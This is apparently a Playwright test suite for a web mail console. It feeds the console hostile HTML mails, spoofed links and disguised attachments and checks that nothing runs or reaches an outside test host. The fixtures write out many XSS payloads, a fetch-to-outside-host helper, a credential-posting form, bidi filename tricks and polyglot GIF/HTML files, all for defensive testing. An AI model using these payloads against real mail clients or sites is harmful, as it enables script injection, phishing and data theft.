import assert from 'node:assert/strict'
import { after, test } from 'node:test'
import type { Frame, Page } from 'playwright-core'
import { tinyPicture } from '../tiny-picture.ts'
import { openElsewhere } from '../vendors/elsewhere.ts'
import { brandOf, openDesk } from './console-page.ts'
import { openMailboxOf } from './platform-page.ts'
import { faultsOf } from './stories-page.ts'
import type { Message } from '#protocol'

const all = new AsyncDisposableStack()
after(() => all.disposeAsync())
const desk = all.use(await openDesk())
const { world } = desk
const mailbox = all.use(await openMailboxOf(world))
const elsewhere = all.use(await openElsewhere())
const inbox = `${await brandOf(world.owner)}/inbox/all`

/** What a page of ours would show if something of a mail had run, left the frame or opened a window. */
async function sit(conversationId: string) {
  const seat = await desk.open({ who: world.owner, path: `${inbox}/${conversationId}` })
  const odd: string[] = []
  const { page } = seat
  page.on('dialog', dialog => void (odd.push(dialog.message()), dialog.dismiss()))
  page.on('download', () => odd.push('a download'))
  page.context().on('page', other => odd.push(`a window: ${other.url()}`))
  page.on('framenavigated', frame => {
    // What was refused stands where it would have stood.
    const isOurs = frame.url().startsWith(world.address) || /^(about:|chrome-error:|$)/.test(frame.url())
    if (!isOurs) odd.push(`went to ${frame.url()}`)
  })
  return { ...seat, odd }
}

/** The mail as it was sent, in its frame, with all of it read. */
async function asSent(page: Page, at = 0): Promise<Frame> {
  await page.getByRole('button', { name: 'Ver el correo tal cual' }).nth(at).click()
  return frameOf(page)
}

async function frameOf(page: Page): Promise<Frame> {
  const frame = await (await page.getByTitle('El correo tal como se envió').elementHandle())!.contentFrame()
  await frame!.waitForLoadState('load')
  return frame!
}

const run = (say: string) => `fetch('${elsewhere.address}/ran-${say}');top.document.title='ran';alert('${say}')`

/** Each tries one way out; none of them may be heard of. */
const attacks = (there: string): string => `
  <meta http-equiv="refresh" content="0;url=${there}/refresh"><base href="${there}/" target="_top">
  <link rel="stylesheet" href="${there}/sheet.css"><link rel="prefetch" href="${there}/prefetch"><link rel="icon" href="${there}/icon">
  <link rel="dns-prefetch" href="${there}"><LINK/rel="preconnect" href="${there}"><link rel="preload" as="image" href="${there}/preload">
  <style>@import url(${there}/import.css);body{background:url(${there}/background)}
  @font-face{font-family:x;src:url(${there}/font)}*{font-family:x}
  .cover{position:fixed;inset:0;z-index:2147483647;background:red}</style>
  <script>${run('script')}</script><script src="${there}/script.js"></script>
  <img src=x onerror="${run('onerror')}"><body onload="${run('onload')}"><svg onload="${run('svg')}"><script>${run('svg-script')}</script>
  <image href="${there}/svg-image"/><use href="${there}/use#a"/><foreignObject><iframe src="${there}/foreign"></iframe></foreignObject></svg>
  <iframe src="${there}/iframe"></iframe><iframe srcdoc="<script>${run('srcdoc').replaceAll('"', '&quot;')}</script>"></iframe>
  <iframe src="javascript:${run('frame-script')}"></iframe><iframe src="data:text/html,<script>${run('frame-data')}</script>"></iframe>
  <object data="${there}/object"></object><embed src="${there}/embed"><applet code="${there}/applet"></applet>
  <video src="${there}/video" poster="${there}/poster" autoplay></video><audio src="${there}/audio" autoplay></audio>
  <picture><source srcset="${there}/source 1x"><img src="${there}/picture" srcset="${there}/srcset 2x"></picture>
  <img src="${there}/pixel.gif" width="1" height="1"><table background="${there}/table"><tr><td>x</table>
  <form action="${there}/form" method="post" id="f"><input name="password"><button>Entrar</button></form>
  <details open ontoggle="${run('toggle')}"><summary>x</summary></details><marquee onstart="${run('marquee')}">x</marquee>
  <input autofocus onfocus="${run('focus')}"><math><mtext><a xlink:href="javascript:${run('math')}">x</a></mtext></math>
  <isindex action="javascript:${run('isindex')}"><noscript><img src="${there}/noscript"></noscript>
  <p style="background:url('${there}/style')">x</p><p style="width:expression(${run('expression')})">x</p>`

test('nothing of a hostile mail runs, leaves its frame or asks anybody elsewhere, until its pictures are asked for', async () => {
  const there = elsewhere.address
  const html = `${attacks(there)}<div class="cover">Todo está pagado</div><p>Fin</p><img src="cid:own" alt="La puerta">`
  const id = await mailbox.writes({
    ...{ from: 'mala@correo.example', name: 'Mala', subject: 'Factura', text: '', html },
    files: [{ name: 'puerta.png', type: 'image/png', bytes: tinyPicture, cid: 'own' }],
  })
  const { page, odd, field } = await sit(id)
  await field.waitFor()
  const title = await page.title()
  const frame = await asSent(page)
  await frame.getByText('Todo está pagado').waitFor()
  assert.ok(await frame.getByAltText('La puerta').evaluate(seen => (seen as HTMLImageElement).naturalWidth > 0))
  // What covers the mail covers nothing around it.
  const [cover, box] = await Promise.all([
    frame.locator('.cover').boundingBox(),
    page.getByTitle('El correo tal como se envió').boundingBox(),
  ])
  assert.ok(cover!.x >= box!.x && cover!.y >= box!.y && cover!.width <= box!.width && cover!.height <= box!.height)
  await frame.getByRole('button', { name: 'Entrar' }).dispatchEvent('click')
  await field.fill('Se sigue pudiendo escribir')
  assert.deepEqual([elsewhere.paths, elsewhere.connections(), odd, await page.title()], [[], 0, [], title])

  await page.getByRole('button', { name: 'Traer sus imágenes' }).click()
  await elsewhere.heard('/pixel.gif')
  await frameOf(page)
  assert.deepEqual(
    elsewhere.paths.filter(path => !pictures.has(path)),
    [],
  )
  assert.deepEqual([elsewhere.cookies, elsewhere.referrers, odd], [[], [], []])
  assert.deepEqual(await faultsOf(page, '[data-region="messages"]'), [])
})

/** What of all these is a picture. */
const pictures = new Set(
  ['background', 'svg-image', 'poster', 'source', 'picture', 'srcset', 'pixel.gif', 'table', 'noscript', 'style'].map(
    name => `/${name}`,
  ),
)

test('links show where they lead, open apart without a way back, and those that would run do nothing', async () => {
  const { address } = elsewhere
  const shown = 'https://banco.example'
  const html = `<style>a::after{content:"${shown}"!important;display:none!important}</style>
    <a id="lie" href="${address}/lie" target="_top" rel="opener">${shown}</a>
    <a id="self" href="${address}/self" target="_self">aquí</a>
    <a id="run" href="javascript:${run('link')}">uno</a>
    <a id="hidden" href="&#106;avascript:${run('hidden')}">tres</a>
    <a id="data" href="data:text/html,<script>${run('data')}</script>">dos</a>`
  const id = await mailbox.writes({ from: 'phish@correo.example', name: 'Phish', subject: 'Tu banco', html })
  const { page, odd } = await sit(id)
  const frame = await asSent(page)
  await frame.locator('#lie').hover()
  const tip = await frame.locator('#lie').evaluate(link => {
    const { content, display, position } = getComputedStyle(link, '::after')
    return { content, display, position }
  })
  assert.deepEqual(tip, { content: `"${address}/lie"`, display: 'block', position: 'fixed' })
  const [opened] = await Promise.all([page.context().waitForEvent('page'), frame.locator('#lie').click()])
  await opened.waitForLoadState()
  assert.deepEqual([opened.url(), await opened.evaluate(() => window.opener === null)], [`${address}/lie`, true])
  await opened.close()
  const [other] = await Promise.all([page.context().waitForEvent('page'), frame.locator('#self').click()])
  await other.waitForURL(`${address}/self`)
  await other.close()
  for (const name of ['run', 'data', 'hidden']) await frame.locator(`#${name}`).click({ noWaitAfter: true })
  await page.evaluate(() => new Promise(requestAnimationFrame))
  assert.equal(new URL(page.url()).origin, world.address)
  assert.deepEqual(
    elsewhere.paths.filter(path => path.startsWith('/ran')),
    [],
  )
  assert.deepEqual(
    odd.filter(what => what.includes('data:') || what.includes('javascript:')),
    [],
  )
})

test('a mail as large and as deep as one can be made is shown, and the page goes on working', async () => {
  const deep = `${'<div><table><tr><td>'.repeat(10_000)}El fondo`
  const deepest = await mailbox.writes({ from: 'honda@correo.example', name: 'Honda', html: deep })
  const large = `<p>Empieza</p>${'<p>Línea larga que no dice nada de nada.</p>'.repeat(115_000)}`
  assert.ok(large.length > 5_000_000)
  const largest = await mailbox.writes({ from: 'larga@correo.example', name: 'Larga', html: large })
  const { page, field, complaints } = await sit(deepest)
  for (const [id, text] of [
    [deepest, 'El fondo'],
    [largest, 'Empieza'],
  ] as const) {
    if (id !== deepest) await page.goto(`${world.address}${inbox}/${id}`)
    const frame = await asSent(page)
    await frame.getByText(text).first().waitFor()
    await field.fill(`Sigo escribiendo: ${text}`)
  }
  // What is said without end does not push all else away.
  const log = page.getByRole('log')
  const height = await log.getByRole('article').evaluate(article => article.getBoundingClientRect().height)
  await log.getByRole('button', { name: /^Ver entero: [\d.]+ caracteres$/ }).click()
  await log.getByRole('button', { name: 'Ver solo el principio' }).waitFor()
  const whole = await log.getByRole('article').evaluate(article => article.getBoundingClientRect().height)
  assert.ok(whole > 5 * height, `${height} ${whole}`)
  assert.deepEqual(complaints, [])
})

const bidi = '\u202Egnp.asac\u202C \u2066\u2067'
const zalgo = `M${'\u0300\u0315\u0323\u0489'.repeat(40)}arta`

test('names and words made to break a page break none', async () => {
  const names = [`${zalgo} ${bidi}`, 'W'.repeat(10_000), '<img src=x onerror=alert(1)>', '\u0000\uFFFE\u{1F468}\u200D']
  const ids: string[] = []
  for (const [at, name] of names.entries()) {
    const html = `<p>Hola ${zalgo} ${bidi}</p><p style="font-size:0">oculto</p><p style="display:none">tapado</p>`
    const quoted = '<blockquote><p>Lo que escribisteis ayer</p></blockquote>'
    const file = { name: `${bidi}${name.slice(0, 300)}.png`, type: 'image/png', bytes: tinyPicture }
    const mail = { from: `n${at}@correo.example`, name, subject: `${bidi}${zalgo} ${at}`, html: html + quoted }
    ids.push(await mailbox.writes({ ...mail, files: [file] }))
  }
  const { page, rows, odd, complaints } = await sit(ids[1]!)
  await rows.first().waitFor()
  for (const id of ids) {
    await page.goto(`${world.address}${inbox}/${id}`)
    await page.getByRole('log').getByText('Hola', { exact: false }).first().waitFor()
    assert.equal(await page.getByRole('log').getByText('tapado').count(), 0)
    assert.equal(await page.getByText('Lo que escribisteis ayer').count(), 0)
    const { wide, rowHeights } = await page.evaluate(() => ({
      wide: document.documentElement.scrollWidth - document.documentElement.clientWidth,
      rowHeights: [...document.querySelectorAll('[role=row]')].map(row => row.getBoundingClientRect().height),
    }))
    assert.ok(wide <= 0 && Math.max(...rowHeights) < 120, `${wide} ${rowHeights.join()}`)
  }
  await page.getByRole('button', { name: 'Ver el texto citado' }).click()
  await page.getByText('Lo que escribisteis ayer').waitFor()
  assert.deepEqual([odd, complaints], [[], []])
})

test('a file that lies about what it is never runs: it is shown if it is a picture, and else it can only be kept', async () => {
  const script = `<script>${run('file')}</script>`
  const files = [
    { name: 'foto.png', type: 'image/png', bytes: Buffer.from(`<!doctype html><body>${script}`) },
    { name: 'factura.pdf', type: 'application/pdf', bytes: Buffer.from('MZ\u0090\0'.padEnd(400, '\0'), 'latin1') },
    {
      ...{ name: 'dibujo.svg', type: 'image/svg+xml' },
      bytes: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${run('svg-file')}">${script}</svg>`),
    },
    { name: 'pagina.html', type: 'text/html', bytes: Buffer.from(script) },
    {
      name: 'doble.gif',
      type: 'image/gif',
      bytes: Buffer.from(`GIF89a/*${'\0'.repeat(60)}*/=1;${run('gif')}//${script}`),
    },
  ]
  const id = await mailbox.writes({
    from: 'l@correo.example',
    name: 'Lía',
    subject: 'Adjuntos',
    text: 'Mira esto',
    files,
  })
  const { page, odd } = await sit(id)
  await page.getByText('Es un programa: no se ha guardado').waitFor()
  const [message] = (await world.owner.get<{ rows: Message[] }>(`/conversations/${id}/messages`)).rows
  const cards = message!.parts.flatMap(part => ('file' in part && part.file ? [part.file] : []))
  assert.deepEqual(cards.map(({ name, state }) => [name, state === 'ready']).toSorted(), [
    ['dibujo.svg', true],
    ['doble.gif', true],
    ['factura.pdf', false],
    ['foto.png', true],
    ['pagina.html', true],
  ])
  for (const { name, address } of cards.filter(card => card.address)) {
    // Opened by its address in a window of its own, within our origin and signed in: the worst that can be done with it.
    const other = await page.context().newPage()
    const isKept = other.waitForEvent('download').then(
      () => true,
      () => false,
    )
    await other.goto(world.address + address!).catch(() => undefined)
    if (name === 'doble.gif') assert.equal(await other.evaluate(() => document.scripts.length), 0)
    else assert.ok(await isKept, name)
    await other.close()
  }
  assert.deepEqual(
    [elsewhere.paths.filter(path => path.startsWith('/ran')), odd.filter(what => /^(file|svg|gif)/.test(what))],
    [[], []],
  )
})
